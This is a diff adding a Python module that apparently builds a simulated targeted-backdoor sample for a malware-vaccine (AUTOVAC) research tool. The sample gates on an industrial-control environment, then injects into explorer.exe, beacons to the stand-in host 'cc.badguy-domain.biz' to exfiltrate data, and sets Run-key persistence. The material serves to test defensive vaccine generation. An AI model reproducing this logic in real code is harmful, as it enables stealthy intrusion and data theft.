@@ -1,0 +1,89 @@
+"""Targeted malware (paper §II scenario 3).
+
+"Some targeted malware is designed to work in a specific system environment.
+Our vaccine can attempt to make each protected system different from malware
+targeted environment, so as to be immune from the infection."
+
+This sample only detonates on machines that look like its target — an
+industrial-control workstation — and that carry its own first-stage
+artifact:
+
+* ``hklm\\software\\industro\\plc`` — the targeted vendor software's key;
+* ``ScadaControlWnd`` — the vendor HMI's window class;
+* ``c:\\windows\\temp\\stg1_cfg.dat`` — the dropper's stage-1 staging file.
+
+:func:`prepare_target_environment` equips the *analysis* machine with those
+indicators (AUTOVAC must profile the malware in an environment where it
+detonates).  The staging-file check is the clean vaccine: deny it and the
+sample never fires, while the vendor software is untouched.
+"""
+
+from __future__ import annotations
+
+from ...winenv.acl import IntegrityLevel
+from ...winenv.environment import SystemEnvironment
+from ..builder import (
+    AsmBuilder,
+    frag_beacon,
+    frag_check_file_marker,
+    frag_check_registry_marker,
+    frag_check_window,
+    frag_exit,
+    frag_inject_process,
+    frag_persist_run_key,
+)
+
+FAMILY = "targeted_apt"
+CATEGORY = "backdoor"
+
+TARGET_REGISTRY_KEY = "hklm\\software\\industro\\plc"
+TARGET_WINDOW_CLASS = "ScadaControlWnd"
+STAGING_FILE = "c:\\windows\\temp\\stg1_cfg.dat"
+
+
+def prepare_target_environment(env: SystemEnvironment) -> SystemEnvironment:
+    """Make ``env`` look like the malware's target (analysis prerequisite)."""
+    env.registry.create_key(TARGET_REGISTRY_KEY, IntegrityLevel.SYSTEM)
+    env.registry.set_value(TARGET_REGISTRY_KEY, "version", "7.4", IntegrityLevel.SYSTEM)
+    env.windows.register(TARGET_WINDOW_CLASS, title="SCADA Control")
+    env.filesystem.create(
+        STAGING_FILE, IntegrityLevel.MEDIUM, content=b"stage1-config",
+    )
+    return env
+
+
+def build(variant: int = 0) -> "Program":
+    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
+
+    wrong_env = b.unique("wrong_env")
+
+    # Environment fingerprinting: every indicator must be present.  The
+    # checks branch to a silent exit when the machine is not the target.
+    key_found = b.unique("key_found")
+    frag_check_registry_marker(b, TARGET_REGISTRY_KEY, key_found)
+    b.emit(f"    jmp {wrong_env}")
+    b.label(key_found)
+
+    win_found = b.unique("win_found")
+    frag_check_window(b, TARGET_WINDOW_CLASS, win_found)
+    b.emit(f"    jmp {wrong_env}")
+    b.label(win_found)
+
+    stage_found = b.unique("stage_found")
+    frag_check_file_marker(b, STAGING_FILE, stage_found)
+    b.emit(f"    jmp {wrong_env}")
+    b.label(stage_found)
+
+    # Detonation: exfiltration + foothold.
+    frag_inject_process(b, "explorer.exe")
+    frag_beacon(b, "cc.badguy-domain.biz", rounds=4, payload="EXFIL")
+    frag_persist_run_key(b, "industroupd", "c:\\windows\\system32\\indupd.exe")
+    b.emit("    halt")
+
+    b.label(wrong_env)
+    b.comment("not the targeted environment: leave quietly")
+    frag_exit(b, 0)
+    return b.build(family=FAMILY, category=CATEGORY, variant=variant, targeted=True)
+
+
+from ...vm.program import Program  # noqa: E402
